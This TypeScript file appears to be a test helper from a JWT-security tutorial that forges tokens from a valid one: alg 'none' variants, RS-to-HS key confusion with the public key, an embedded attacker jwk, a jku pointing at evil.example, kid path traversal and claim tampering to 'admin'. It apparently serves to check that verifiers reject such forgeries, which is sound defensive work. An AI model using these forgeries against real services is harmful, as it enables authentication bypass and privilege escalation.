/** What an attacker makes of a good token and of the key set. */
import { createHmac, createPublicKey, generateKeyPairSync, type JsonWebKey, sign } from 'node:crypto'

/** Forged tokens of every kind of chapter 2. */
export function forgeries(good: string, jwks: string): string[] {
  const [h, p, s] = good.split('.') as [string, string, string]
  const header = JSON.parse(Buffer.from(h, 'base64url').toString()) as Record<string, unknown>
  const claims = JSON.parse(Buffer.from(p, 'base64url').toString()) as Record<string, unknown>
  const [jwk] = (JSON.parse(jwks) as { keys: JsonWebKey[] }).keys as [JsonWebKey]
  const own = generateKeyPairSync('rsa', { modulusLength: 2048 })
  const segment = (value: unknown): string => Buffer.from(JSON.stringify(value)).toString('base64url')
  const admin = { ...claims, sub: 'admin' }
  const unsigned = (alg: string): string => `${segment({ ...header, alg })}.${segment(admin)}.`
  const hmac = (key: string | Buffer, more: Record<string, unknown> = {}): string => {
    const input = `${segment({ ...header, alg: 'HS256', ...more })}.${segment(admin)}`
    return `${input}.${createHmac('sha256', key).update(input).digest('base64url')}`
  }
  const ours = (more: Record<string, unknown>): string => {
    const input = `${segment({ ...header, ...more })}.${segment(admin)}`
    return `${input}.${sign('sha256', Buffer.from(input), own.privateKey).toString('base64url')}`
  }
  const pem = createPublicKey({ key: jwk, format: 'jwk' })
  const spki = pem.export({ type: 'spki', format: 'pem' }) as string
  return [
    ...['none', 'None', 'NONE', 'nOnE', ''].map(unsigned),
    `${h}.${p}.`,
    `${h}.${segment(admin)}.${s}`,
    `${unsigned('none')}${s}`,
    hmac(spki),
    hmac(spki.trim()),
    hmac(spki.replace(/\n/g, '\r\n')),
    hmac(pem.export({ type: 'pkcs1', format: 'pem' }) as string),
    hmac(String(jwk.n)),
    hmac(Buffer.from(String(jwk.n), 'base64url')),
    hmac(jwks),
    hmac(JSON.stringify(jwk)),
    hmac(''),
    hmac('', { kid: '/dev/null' }),
    ours({}),
    ours({ jwk: own.publicKey.export({ format: 'jwk' }) }),
    ours({ jku: 'https://evil.example/jwks.json' }),
    ours({ kid: '../../dev/null' }),
    ours({ kid: '__proto__' }),
    ours({ crit: ['exp'] }),
    ours({ alg: 'RS512' }),
    `${h}.${p}.${s.slice(0, -4)}AAAA`,
    `${h}.${p}`,
    `${good}.${s}`,
    'abc',
  ]
}
